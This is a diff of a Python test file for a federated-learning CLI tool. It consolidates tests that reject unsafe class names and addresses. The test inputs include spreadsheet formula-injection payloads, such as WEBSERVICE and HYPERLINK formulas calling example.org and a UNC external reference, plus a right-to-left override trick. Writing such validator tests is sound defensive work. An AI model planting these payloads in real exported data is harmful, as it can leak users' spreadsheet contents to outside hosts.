@@ -5,11 +5,9 @@ reading is taken away, and all that prints is played with the same names: nothin
 """
 
 # ruff: noqa: F811
-import ast
 import io
 import json
 import re
-import time
 import unicodedata
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -22,9 +20,9 @@ from rich.live import Live
 from rich.markup import escape
 from rich.table import Table
 from rich.text import Text
-from syrupy.assertion import SnapshotAssertion
 
 from fedct_flwr.cli import main
+from fedct_flwr.config.silo import SiloConfig
 from fedct_flwr.datasets.study_folder import read_study
 from fedct_flwr.hospital.study_agent import StudyAgent
 from fedct_flwr.report.page import document
@@ -35,6 +33,7 @@ from fedct_flwr.types import ConfigError, DataError
 from tests.cli.conftest import fedct, here, kit  # noqa: F401 - fixtures, which tests name as arguments
 from tests.cli.runner import Outcome
 from tests.cli.silos import Kit
+from tests.hospitals import write_silo_folder
 from tests.report.folders import add_round, add_scores, begin
 from tests.sentences import sentence
 
@@ -118,61 +117,38 @@ def test_a_name_that_hides_something_is_refused_where_it_stands(study: Path, pla
 
 
 @pytest.mark.parametrize(
-    "name",
+    ("name", "said"),
     [
-        "x" * 257,
-        "ill ",
-        " ",
-        "",
-        "́ill",
-        '=WEBSERVICE("http://example.org/"&A2)',
-        "+HYPERLINK(A2)",
-    ],
-)
-def test_a_class_with_another_fault_is_refused(study: Path, name: str, wording: SnapshotAssertion) -> None:
-    rewritten(study, classes=["healthy", name])
-    said = sentence(ConfigError, read_study, study)
-    assert said == wording
-    assert len(said) < 1000
-
-
-@pytest.mark.parametrize(
-    "name",
-    [
-        '=HYPERLINK ("http://example.org/"&A2)',
-        r"='\\example.org\share\[a.xlsx]b'!A1",
-        "\uff1dHYPERLINK(A2)",
+        ("x" * 257, "it has 257 characters, and 256 are the most"),
+        # It was minutes.
+        ("=" + "|" * 1_000_000, "it has 1,000,001 characters"),
+        ("ill ", "it is empty, or begins or ends with a blank"),
+        ("", "it is empty, or begins or ends with a blank"),
+        ("\u0301ill", "the combining mark U+0301 (COMBINING ACUTE ACCENT) stands on nothing"),
+        ('=WEBSERVICE("http://example.org/"&A2)', "a spreadsheet would run it as a formula"),
+        ('=HYPERLINK ("http://example.org/"&A2)', "a spreadsheet would run it as a formula"),
+        ("+HYPERLINK(A2)", "a spreadsheet would run it as a formula"),
+        (r"='\\example.org\share\[a.xlsx]b'!A1", "a spreadsheet would run it as a formula"),
+        ("\uff1dHYPERLINK(A2)", "a spreadsheet would run it as a formula"),
         # Where commas are decimal signs, a line is cut here, and this is a cell of its own.
-        "ill;=WEBSERVICE(A2)",
+        ("ill;=WEBSERVICE(A2)", "a spreadsheet would run it as a formula"),
     ],
+    ids=range(11),
 )
-def test_a_class_is_a_formula_in_no_spreadsheet(study: Path, name: str) -> None:
+def test_a_class_with_another_fault_is_refused(study: Path, name: str, said: str) -> None:
     rewritten(study, classes=["healthy", name])
-    with pytest.raises(ConfigError, match="a spreadsheet would run it as a formula"):
-        read_study(study)
-
-
-def test_an_endless_class_keeps_nobody_at_work(study: Path) -> None:
-    rewritten(study, classes=["healthy", "=" + "|" * 1_000_000])
-    began = time.process_time()
-    with pytest.raises(ConfigError, match="1,000,001 characters, and 256 are the most"):
-        read_study(study)
-    # It was minutes.
-    assert time.process_time() - began < 20
+    found = sentence(ConfigError, read_study, study)
+    assert found.startswith("classes.1 = ")
+    assert f"study.toml: {said}" in found
+    assert len(found) < 1000
 
 
 @pytest.mark.parametrize("key", ["superlink", "supernode"])
-def test_an_address_that_hides_something_is_refused(fedct: Fedct, kit: Kit, key: str) -> None:
-    kit.file.write_text(
-        re.sub(
-            rf'^{key} = ".*"', f'{key} = "good.example\u202e:8000"', kit.file.read_text("utf-8"), flags=re.MULTILINE
-        ),
-        "utf-8",
-    )
-    outcome = fedct("silo", "approve", kit.folder, "--yes", "--reason", "test")
-    assert outcome.code == ConfigError.exit_code
-    assert f"connection.{key} = 'good.example\\u202e:8000'" in outcome.sentence
-    assert "U+202E (RIGHT-TO-LEFT OVERRIDE)" in outcome.sentence
+def test_an_address_that_hides_something_is_refused(tmp_path: Path, key: str) -> None:
+    path = write_silo_folder(tmp_path, connection={key: "good.example\u202e:8000"})
+    said = sentence(ConfigError, SiloConfig.read_toml, path)
+    assert f"connection.{key} = 'good.example\\u202e:8000'" in said
+    assert "U+202E (RIGHT-TO-LEFT OVERRIDE)" in said
 
 
 # --- printing
@@ -210,13 +186,12 @@ def test_the_agent_says_nothing_raw() -> None:
 
 
 def test_every_module_logs_where_the_filter_is() -> None:
-    for path in sources():
-        for call in calls(path, "getLogger"):
-            name = ast.unparse(call.args[0])
+    for path in (path for room in ("fedct_flwr", "client_app", "server_app") for path in (ROOT / room).rglob("*.py")):
+        for name in re.findall(r"getLogger\((.*?)\)", path.read_text("utf-8")):
             # These two say where Flower's own log goes, and log nothing themselves.
-            if name == "'flwr'" and path.name in ("loopback.py", "rerun.py"):
+            if name == '"flwr"' and path.name in ("loopback.py", "rerun.py"):
                 continue
-            assert name in ("'flwr.fedct'", "LOGGER_NAME", "name"), f"{path}: {name}"
+            assert name in ('"flwr.fedct"', "LOGGER_NAME", "name"), f"{path}: {name}"
 
 
 def hostile_run(path: Path) -> RunSummary:
@@ -275,16 +250,6 @@ def test_an_unexpected_error_is_printed_plainly(capsys: pytest.CaptureFixture[st
     error = RuntimeError(HOSTILE)
     main._show_unexpected(RuntimeError, error, None)
     assert_plain(capsys.readouterr().err)
-
-
-def sources() -> set[Path]:
-    return {path for folder in ("fedct_flwr", "client_app", "server_app") for path in (ROOT / folder).rglob("*.py")}
-
-
-def calls(path: Path, *names: str) -> Iterator[ast.Call]:
-    for node in ast.walk(ast.parse(path.read_text("utf-8"))):
-        if isinstance(node, ast.Call) and ast.unparse(node.func).rpartition(".")[2] in names:
-            yield node
 
 
 # --- the function itself
